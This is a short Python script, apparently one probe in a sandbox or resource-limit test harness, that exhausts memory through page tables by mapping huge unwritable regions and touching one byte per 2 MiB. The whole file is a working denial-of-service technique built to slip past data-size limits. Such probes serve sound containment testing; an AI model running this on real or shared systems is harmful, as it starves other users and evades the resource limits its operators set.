"""Take memory without end as page tables: look at one page in each 2 MiB of a huge mapping that holds nothing."""

import ctypes
import mmap
import time

from attempt import LIBC, attempt
from bot import LOOKED_AT_S, play, setting

# One look costs 4 KiB of page table; private memory that can't be written is counted by no limit on data.
STEP, TABLE, PIECE = 2 << 20, 4 << 10, 16 << 30
PRIVATE_NO_RESERVE = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
LIBC.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)


def attack() -> None:
    for _ in range((setting("megabytes") << 20) // (PIECE // STEP * TABLE)):
        piece = LIBC.mmap(None, PIECE, mmap.PROT_READ, PRIVATE_NO_RESERVE, -1, 0)
        if piece is None or piece == ctypes.c_void_p(-1).value:
            raise OSError(ctypes.get_errno(), "mmap")
        LIBC.madvise(piece, PIECE, 15)  # No huge pages: those need no tables.
        for at in range(piece, piece + PIECE, STEP):
            ctypes.c_char.from_address(at).value  # noqa: B018 - reading it is the attack
    time.sleep(LOOKED_AT_S)


play(lambda: attempt("hold memory in page tables", attack))
